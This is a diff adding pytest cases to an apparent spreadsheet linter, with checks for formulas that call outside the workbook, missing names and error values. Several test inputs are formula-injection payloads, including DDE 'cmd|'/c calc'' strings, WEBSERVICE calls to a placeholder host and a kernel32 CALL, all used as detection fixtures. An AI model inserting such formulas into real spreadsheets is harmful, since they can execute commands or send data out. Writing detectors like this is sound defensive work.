@@ -177,3 +177,95 @@ def test_pasted_errors_do_not_make_the_errors_of_formulas_meant(tmp_path, found)
 def test_ranges_are_listed_as_few_rectangles():
     places = [(2, 2), (2, 3), (3, 2), (3, 3), (5, 5), (6, 5)]
     assert ranges_text(places) == "B2:C3, E5:E6"
+
+
+def outside(formula, written="x"):
+    """Return a change that writes a formula to C5 of a book with numbers and a sheet `Other`."""
+
+    def change(sheet, book):
+        numbers(sheet)
+        book.add_worksheet("Other")
+        book.define_name("Known", "=S!$B$2")
+        book.define_name("Other!Local", "=S!$B$3")
+        sheet.add_table("F1:G4", {"name": "Sales"})
+        sheet.write_formula("C5", formula, None, written)
+
+    return change
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=cmd|'/c calc'!A0",
+        "='cmd'|'/c calc'!A0+1",
+        "=Excel|Sheet1!R1C1",
+        '=_xlfn.WEBSERVICE("http://host.invalid/"&B2)',
+        '=WEBSERVICE("http://host.invalid/")',
+        '=RTD("server","","topic")',
+        '=IFERROR(DDE("soffice","file","A1"),0)',
+        '=_xlfn.IMAGE("http://host.invalid/x.png")',
+        '=CALL("kernel32","Sleep","JJ",1)',
+    ],
+)
+def test_w33_asks_what_a_formula_calls_outside(found, formula):
+    assert found(outside(formula)) == {("W33", "C5")}
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=\"cmd|'/c calc'!A0\"",
+        '=IF(B2>1,"WEBSERVICE(x)","a|b!c")',
+        '=HYPERLINK("http://host.invalid/")',
+        '="a|b"&Other!A1',
+    ],
+)
+def test_w33_leaves_texts_alone(found, formula):
+    assert found(outside(formula)) == set()
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=IFERROR(Gone!B2,0)",
+        "=SUM('No such'!B2:B9)",
+        "=IFERROR(Unknown,0)",
+        "=B2*Local",
+        "=IFERROR(#REF!,0)",
+    ],
+)
+def test_w09_names_what_the_workbook_does_not_have(found, formula):
+    assert found(outside(formula)) == {("W09", "C5")}
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=Known*2",
+        "=KNOWN*other!B2",
+        "=SUM(Sales[Column1])",
+        "=SUM(Sales)",
+        "=Other!Local",
+        "=SUM(S:Other!B2)",
+        "=_xlfn.LET(_xlpm.x,B2,_xlpm.x+1)",
+        "=IF(TRUE,1,FALSE)",
+        '=INDIRECT("Gone!B2")',
+    ],
+)
+def test_w09_knows_sheets_names_tables_and_variables(found, formula):
+    assert found(outside(formula)) == set()
+
+
+@pytest.mark.parametrize(
+    ("formula", "value", "is_found"),
+    [
+        ("=MOD(5,0)", "#DIV/0!", True),
+        ("=#VALUE!", "#VALUE!", True),
+        ("=#N/A", "#N/A", False),
+        ("=1/0", "#DIV/0!", False),
+        ("=SUM(Other!A1:A3)/COUNT(Other!A1:A3)", "#DIV/0!", False),
+    ],
+)
+def test_e01_of_formulas_that_read_nothing(found, formula, value, is_found):
+    told = found(outside(formula, value))
+    assert told == ({("E01", "C5")} if is_found else set())
